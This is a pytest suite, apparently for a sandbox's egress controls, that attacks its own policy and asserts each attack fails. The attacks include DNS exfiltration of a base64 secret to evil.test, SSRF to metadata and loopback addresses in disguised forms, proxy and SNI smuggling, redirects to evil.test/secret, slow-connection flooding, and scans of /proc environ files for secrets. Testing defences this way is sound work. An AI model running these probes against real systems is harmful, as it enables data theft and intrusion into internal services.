"""Attempts to break the claims on networks with a policy, in a world of the tests' own (tests/support/world.py)."""

from __future__ import annotations

import json
import os
import signal
import time
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from typing import Any

import pytest

from hotbed import Sandbox, connect, rollout_once
from hotbed.sdk.client import Client
from tests.support.world import SECRET, World, fetch, lacking, world

pytestmark = [pytest.mark.slow, pytest.mark.timeout(180)]

# What an attack runs: `ask` says something somewhere and gives what came back, or the error's name.
ASK = """
import json, socket, ssl, sys, time
def ask(where, said, *, tls=None, patience=8):
    try:
        family = socket.AF_INET6 if ":" in where[0] else socket.AF_INET
        sock = socket.socket(family) if ":" in where[0] else None
        if sock is not None:
            sock.settimeout(patience)
            sock.connect(where)
        else:
            sock = socket.create_connection(where, patience)
        if tls is not None:
            context = ssl.create_default_context()
            context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
            sock = context.wrap_socket(sock, server_hostname=tls)
        sock.sendall(said)
        data = b""
        while more := sock.recv(1 << 16):
            data += more
        return data.decode("latin-1")
    except OSError as error:
        return type(error).__name__
def get(host, path="/"):
    return f"GET {path} HTTP/1.1\\r\\nHost: {host}\\r\\nConnection: close\\r\\n\\r\\n".encode()
def tunnel(target):
    return f"CONNECT {target} HTTP/1.1\\r\\n\\r\\n".encode()
PROXY = ("127.0.0.1", 3128)
"""


@pytest.fixture(scope="module")
def earth(tmp_path_factory: pytest.TempPathFactory) -> Iterator[World]:
    """One world for all attempts."""
    if why := lacking():
        pytest.skip(why)
    directory = tmp_path_factory.mktemp("world")
    directory.chmod(0o755)  # a template of root's has to reach it with an id of its own
    with world(directory, backend="fork", spares=2) as found:
        yield found


@pytest.fixture(scope="module")
def client(earth: World) -> Iterator[Client]:
    """A client of the node in it."""
    with connect(earth.url) as found:
        yield found


def attack(client: Client, egress: Any, attempts: str) -> list[str]:
    """Run an expression that is a list of what came of each attempt."""
    result = rollout_once("python", code=f"{ASK}\nprint(json.dumps([{attempts}]))", egress=egress, client=client)
    assert result.ok, result.stderr
    answers: list[str] = json.loads(result.stdout)
    return answers


def refused(answer: str) -> bool:
    """Whether nothing of the Internet's came back."""
    return "HTTP/1.1 200 OK" not in answer and '"at"' not in answer and "SSH-2.0" not in answer


def test_names_cannot_be_rebound(earth: World, client: Client) -> None:
    """A name that leads somewhere else each time it is asked for."""
    before = len(earth.diary("http", host="rebind.test"))
    attempts = ", ".join(["ask(('rebind.test', 80), get('rebind.test'))"] * 6)

    attack(client, {"allow": ["rebind.test"]}, attempts)

    assert earth.diary("dns", name="rebind.test")
    reached = {line["at"] for line in earth.diary("http", host="rebind.test")[before:]}
    assert reached <= {"::ffff:5db8:d71e"}  # 93.184.215.30, the only public one


def test_lookups_carry_nothing_out(earth: World, client: Client) -> None:
    """Names that are messages, by every server and kind of lookup there is."""
    code = (
        "import socket\n"
        "socket.getaddrinfo('good.test', 80)\n"
        "for host in ('c2VjcmV0.evil.test', 'c2VjcmV0.good.test.evil.test', 'x' * 60 + '.good.test'):\n"
        "    try: socket.getaddrinfo(host, 80)\n"
        "    except OSError: pass\n"
        "question = b'\\0\\1\\1\\0\\0\\1' + b'\\0' * 6 + b'\\x06c2VjcQ\\4evil\\4test\\0\\0\\x10\\0\\1'\n"
        "for server in ('192.0.2.2', '8.8.8.8', '127.0.0.1'):\n"
        "    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); sock.settimeout(1)\n"
        "    sock.sendto(question, (server, 53))\n"
        "    try: sock.recv(512)\n"
        "    except OSError: pass\n"
    )

    result = rollout_once("python", code=code, egress={"allow": ["good.test"]}, client=client)

    assert result.ok, result.stderr
    assert earth.diary("dns", name="good.test")
    assert [line for line in earth.diary("dns") if "c2vjc" in line["name"] or line["name"].startswith("xxx")] == []


def test_connections_are_for_whom_they_say(earth: World, client: Client) -> None:
    """A good name on the outside and another one within: by Host, by SNI, to an address, through the proxy."""
    answers = attack(
        client,
        {"allow": ["good.test"]},
        "ask(('good.test', 80), get('shared.test')),"
        "ask(('good.test', 80), get('good.test').replace(b'close', b'keep-alive') + get('shared.test')),"
        "ask(('good.test', 443), get('good.test'), tls='shared.test'),"
        "ask(('93.184.215.15', 443), get('good.test'), tls='good.test'),"
        "ask(('93.184.215.15', 80), get('good.test')),"
        "ask(('45.33.32.156', 443), b'hello'),"
        "ask(PROXY, b'GET http://good.test/ HTTP/1.1\\r\\nHost: shared.test\\r\\n\\r\\n'),"
        "ask(PROXY, tunnel('good.test:80') + get('shared.test')),"
        "ask(PROXY, tunnel('shared.test:443'))",
    )

    hosts = {line["host"] for line in earth.diary("http") if line["host"] in ("shared.test", "other.test")}
    assert hosts == set()
    assert [refused(answer) for answer in answers] == [True, False, *[True] * 7]


def test_private_addresses_refused(earth: World, client: Client) -> None:
    """By name, by number, in every disguise, and through the proxy: private, metadata, loopback, the node itself."""
    names = ("private.test", "meta.test", "loop.test", "mapped.test", "nat64.test", "node.test")
    numbers = ("10.1.2.3", "169.254.169.254", "192.0.2.1", "100.100.100.200", "::ffff:10.1.2.3", "64:ff9b::a01:203")
    by_name = [f"ask(('{name}', 80), get('{name}'))" for name in names]
    by_number = [f"ask(('{number}', 80), get('x'))" for number in numbers]
    hosts = (*names, "10.1.2.3", "127.0.0.1", "[::1]", "[::ffff:127.0.0.1]", "2130706433", "0x7f000001", "localhost")
    by_proxy = [f"ask(PROXY, tunnel('{host}:80') + get('x'))" for host in hosts]

    public = "ask(('good.test', 80), get('good.test'))"
    *answers, reached = attack(client, "open", ", ".join((*by_name, *by_number, *by_proxy, public)))

    assert not refused(reached)
    assert [answer for answer in answers if not refused(answer)] == []
    special = ("::ffff:a01:203", "::ffff:a9fe:a9fe", "::ffff:c000:202")
    assert [line for line in earth.diary("http") if line["at"] in special] == []


def test_redirects_are_decided_anew(earth: World, client: Client) -> None:
    """An allowed host that sends the program to one that is not."""
    got, told = fetch(earth, client, {"allow": ["good.test"]}, "http://good.test/to/http://evil.test/secret")

    assert "URLError" in got[0] and {item["to"] for item in told["refused"]} == {"evil.test"}
    assert earth.diary("http", path="/secret") == []


def test_datagrams_refused(client: Client) -> None:
    """Any but lookups, to any address, also where everything is allowed."""
    code = (
        "import json, socket\nfound = []\n"
        "for where in (('8.8.8.8', 443), ('93.184.215.14', 123), ('good.test', 4500)):\n"
        "    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); sock.settimeout(2)\n"
        "    try: sock.connect(where); sock.send(b'x'); sock.recv(10); found.append('answered')\n"
        "    except OSError as error: found.append(type(error).__name__)\n"
        "print(json.dumps(found))"
    )

    result = rollout_once("python", code=code, egress="open", client=client)

    assert json.loads(result.stdout) == ["ConnectionRefusedError"] * 3


def test_one_sandbox_cannot_use_anothers_way_out(earth: World, client: Client) -> None:
    """A sandbox without a network, beside one with everything, and one with little."""
    with Sandbox("python", egress="open", client=client):
        attempts = "ask(PROXY, tunnel('good.test:80') + get('good.test')), ask(('good.test', 80), get('good.test'))"

        assert [refused(answer) for answer in attack(client, None, attempts)] == [True, True]
        assert [refused(answer) for answer in attack(client, {"allow": ["other.test"]}, attempts)] == [True, True]


SLOW = """
import socket, time
held = []
for number in range(400):
    try:
        sock = socket.create_connection(("127.0.0.1", 3128) if number % 2 else ("good.test", 80), 5)
        sock.sendall(b"GET / HT" if number % 3 else b"C")
        held.append(sock)
    except OSError:
        pass
open("/work/holding", "w").write(str(len(held)))
time.sleep(30)
"""


def test_slow_connections_starve_nobody(earth: World, client: Client) -> None:
    """Hundreds of connections that say a word and no more: their own sandbox's places are taken, nobody else's."""
    with Sandbox("python", egress={"allow": ["good.test"]}, client=client) as slow, ThreadPoolExecutor(1) as pool:
        running = pool.submit(slow.exec, code=SLOW, timeout_seconds=12)
        deadline = time.monotonic() + 15
        while not slow.exec(command="test -s /work/holding").ok and time.monotonic() < deadline:
            time.sleep(0.1)

        got, _ = fetch(earth, client, {"allow": ["good.test"]}, "https://good.test/", "http://good.test/")

        assert got == ["good.test", "good.test"]
        assert running.result(30).status == "timeout"


LOOK = """
import os, pathlib, subprocess
def words():
    yield from os.environ.values()
    look = "cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline"
    yield subprocess.run(look, shell=True, capture_output=True, text=True).stdout
    for folder in ("/tmp", "/work", "/etc", "/run", "/var/tmp"):
        for path in pathlib.Path(folder).rglob("*"):
            if path.is_file() and os.access(path, os.R_OK):
                yield path.read_bytes().decode("latin-1")
print(json.dumps(any("not-for" + "-sandboxes" in word for word in words())))
"""


def test_secrets_stay_outside(earth: World, client: Client) -> None:
    """A host that says back what it was sent, other hosts, other names inside TLS, no TLS, and a look around."""
    egress = {"allow": ["good.test", "shared.test", "other.test"], "secret_refs": ["good"]}
    attempts = (
        "ask(('good.test', 443), get('good.test', '/kept'), tls='good.test'),"
        "ask(('good.test', 80), get('good.test', '/clear')),"
        "ask(('good.test', 443), get('shared.test', '/inside'), tls='good.test'),"
        "ask(('other.test', 443), get('good.test', '/other'), tls='other.test'),"
        "ask(('good.test', 443), get('good.test', '/to/https://other.test/'), tls='good.test')"
    )

    with Sandbox("python", egress=egress, client=client) as sandbox:
        answers = json.loads(sandbox.exec(code=f"{ASK}\nprint(json.dumps([{attempts}]))").stdout)
        looked = sandbox.exec(code="import json\n" + LOOK)

    assert '"/kept"' in answers[0] and "*****" in answers[0], answers
    assert looked.stdout == "false\n", looked.stderr
    assert not any("not-for-sandboxes" in answer for answer in answers)
    sent = [line for line in earth.diary("http") if line["headers"].get("authorization") == SECRET]
    assert {(line["host"], line["path"].split("/")[1]) for line in sent} == {("good.test", "kept"), ("good.test", "to")}
    home = earth.directory / "home"
    files = [path for path in (*home.rglob("*"), earth.directory / "node.log") if path.is_file()]
    assert [path.name for path in files if b"not-for-sandboxes" in path.read_bytes()] == ["egress-secrets.json"]


def test_no_broker_no_network(earth: World, client: Client) -> None:
    """The broker killed again and again while programs try: nothing goes around it."""
    before = len(earth.diary("http", host="evil.test"))
    with ThreadPoolExecutor(4) as pool:
        tries = [pool.submit(attack, client, {"allow": ["good.test"]}, _MIXED) for _ in range(8)]
        for _ in range(5):
            time.sleep(0.2)
            pid = earth.broker_pid()
            if pid:
                os.kill(pid, signal.SIGKILL)
        for attempt in tries:
            attempt.exception(60)  # a rollout whose sandbox lost its broker may fail; that is our failure, and said so

    assert len(earth.diary("http", host="evil.test")) == before
    assert fetch(earth, client, {"allow": ["good.test"]}, "http://good.test/")[0] == ["good.test"]


_MIXED = (
    "ask(('good.test', 80), get('good.test')), ask(('evil.test', 80), get('evil.test')),"
    "ask(PROXY, tunnel('evil.test:80'))"
)
